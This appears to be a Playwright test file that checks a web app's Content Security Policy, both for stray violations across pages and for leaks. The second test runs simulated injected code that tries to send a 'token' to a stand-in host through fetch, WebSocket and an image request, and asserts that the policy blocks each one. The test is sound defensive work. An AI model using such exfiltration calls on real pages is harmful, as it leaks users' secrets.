import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import type { Page } from 'playwright-core'
import { pages } from '../../tools/bundle/features.ts'
import { sendOperatorRequest, setSetting } from '../support/journey/operator.ts'
import { openStage, type Stage, signInAsDemo } from '../support/journey/stage.ts'
import { recordViolations } from '../support/journey/violations.ts'
import { until } from '../support/until.ts'

const PICTURE =
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9" fill="teal"/></svg>'

let stage: Stage
/** Server of another origin with pictures of the operator. */
let elsewhere: Server
let origin = ''
/** Paths that were requested from it. */
const requestedPaths: string[] = []

before(async () => {
  stage = await openStage()
  elsewhere = createServer((request, response) => {
    requestedPaths.push(request.url ?? '')
    response.setHeader('Content-Type', 'image/svg+xml').setHeader('Access-Control-Allow-Origin', '*').end(PICTURE)
  })
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  origin = `http://localhost:${(elsewhere.address() as AddressInfo).port}`
})
after(async () => {
  elsewhere.closeAllConnections()
  elsewhere.close()
  await stage.close()
})

/** Waits until the element of a page, or one of the home page's, is attached and defined. */
async function waitForElement(page: Page, tag: string | null): Promise<void> {
  const element = tag ?? 'tl-ticker'
  await page.locator(element).first().waitFor({ state: 'attached' })
  await page.waitForFunction((name) => customElements.get(name) !== undefined, element)
}

test("login, every page, and the operator's pictures on another origin: the policy blocks nothing", async () => {
  await setSetting(stage, 'logo', `${origin}/logo.svg`)
  await sendOperatorRequest(stage, 'POST', '/partner-logos', {
    title: 'P',
    url: 'https://p.example',
    img: `${origin}/partner.svg`,
  })
  const visitor = await stage.visitor()
  const refused = await recordViolations(visitor)
  await signInAsDemo(visitor, stage)
  await waitForElement(visitor.page, null)
  await until(() => requestedPaths.includes('/logo.svg'), 'the logo of the operator')
  assert.deepEqual(refused, [], 'the home page, reached by the login without a new document')
  for (const { path, tag, access } of pages.filter(({ access }) => access !== 'visitor')) {
    await visitor.page.goto(`${stage.backend.address}${path}`)
    await waitForElement(visitor.page, tag)
    // Partners are loaded after the element, so their pictures are requested last.
    if (tag === 'tl-deposit') await until(() => requestedPaths.includes('/partner.svg'), 'the picture of a partner')
    assert.deepEqual(refused, [], `${path} (${access})`)
  }
  await setSetting(stage, 'logo')
})

test('injected code cannot send data elsewhere: the policy blocks calls, sockets and pictures', async () => {
  const { page } = await stage.visitor()
  await page.goto(`${stage.backend.address}/market`)
  const thief = await page.evaluate(async () => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
    await fetch('http://127.0.0.2:9/?token').catch(() => undefined)
    try {
      new WebSocket('ws://127.0.0.2:9/?token').onerror = () => undefined
    } catch {
      // Some browsers throw, others fire an error event.
    }
    new Image().src = 'http://127.0.0.2:9/?token'
    while (refused.length < 3) await new Promise((resolve) => setTimeout(resolve, 20))
    return refused.sort()
  })
  assert.deepEqual(thief, ['connect-src', 'connect-src', 'img-src'])
})
